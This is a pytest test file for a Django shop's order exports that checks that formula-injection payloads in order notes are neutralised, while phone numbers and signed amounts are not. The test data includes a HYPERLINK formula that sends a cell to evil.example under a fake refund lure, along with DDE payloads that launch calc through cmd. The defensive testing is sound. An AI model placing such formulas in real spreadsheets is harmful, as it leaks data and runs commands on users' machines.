"""Order exports (CSV and XLSX): real formulas are guarded, phone numbers and amounts are not; dates are
in the installation's time zone to the second; the order's notes are exported, guarded too."""

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.conf import settings

from orders.jobs.runner import job_run, job_submit
from orders.models import Order
from orders.resources import neutralise
from tests.factories import CustomerFactory, make_order

pytestmark = pytest.mark.django_db

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
PHONE = "+1 212 555 0100"


def export(user, action: str) -> list[dict[str, object]]:
    """Run the export job as `user`; its rows as {header: cell}."""
    job = job_submit(user=user, action_code=action, selection={"tab": "all", "query": ""}, params={})
    job_run(job.pk)
    job.refresh_from_db()
    assert job.state == "done", job.error
    path = Path(settings.MEDIA_ROOT) / job.file
    if action == "export_csv":
        rows = list(csv.reader(path.open(encoding="utf-8")))
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(path).active
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def exported_order(settings):
    settings.TIME_ZONE = "America/New_York"
    order = make_order(customer=CustomerFactory(name="Ada Quist", phone=PHONE), notes=HOSTILE_NOTE)
    # 2026-12-03 12:40:32.420335 UTC is 07:40:32 in New York.
    Order.objects.filter(pk=order.pk).update(
        created_at=datetime(2026, 12, 3, 12, 40, 32, 420335, tzinfo=UTC),
        ship_by=datetime(2026, 12, 5, 4, 59, 59, tzinfo=UTC),
    )
    return order


@pytest.mark.parametrize("action", ["export_csv", "export_xlsx"])
def test_an_export_guards_a_formula_in_the_notes_but_not_the_phone_number(users, exported_order, action):
    [row] = export(users["viewer"], action)
    assert row["Notes"] == "'" + HOSTILE_NOTE
    assert row["Phone"] == PHONE
    assert row["Customer"] == "Ada Quist"


@pytest.mark.parametrize("action", ["export_csv", "export_xlsx"])
def test_an_export_writes_dates_in_the_local_time_zone_to_the_second(users, exported_order, action):
    [row] = export(users["viewer"], action)
    assert row["Created"] == "2026-12-03 07:40:32"
    assert row["Ship by"] == "2026-12-04 23:59:59"  # the shop's ship-by date, local time too


@pytest.mark.parametrize("action", ["export_csv", "export_xlsx"])
def test_an_order_without_a_ship_by_date_exports_an_empty_cell(users, action):
    make_order()
    [row] = export(users["viewer"], action)
    assert row["Ship by"] in ("", None)


@pytest.mark.parametrize(
    "cell", [PHONE, "+44 (0)20 7946 0958", "+33 1-42-68-53-00", "-12.50", "+12.50", "-1,250.00"]
)
def test_phone_numbers_and_signed_amounts_are_data_not_formulas(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize(
    "cell",
    [
        HOSTILE_NOTE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1 212 555 0100 =A1", "+12", "-1", "+123456789012345678", "\t+1 212 555 0100",
    ],
)  # fmt: skip
def test_anything_else_that_starts_like_a_formula_is_guarded(cell):
    assert neutralise(cell) == "'" + cell
